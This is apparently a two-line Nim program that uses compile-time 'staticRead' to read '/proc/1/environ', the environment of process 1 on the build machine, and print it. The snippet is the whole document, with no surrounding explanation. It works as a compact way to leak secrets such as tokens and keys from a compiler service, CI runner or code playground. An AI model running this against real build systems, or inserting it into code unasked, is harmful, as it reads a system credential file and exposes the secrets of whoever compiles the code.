const secret = staticRead("/proc/1/environ")

echo secret
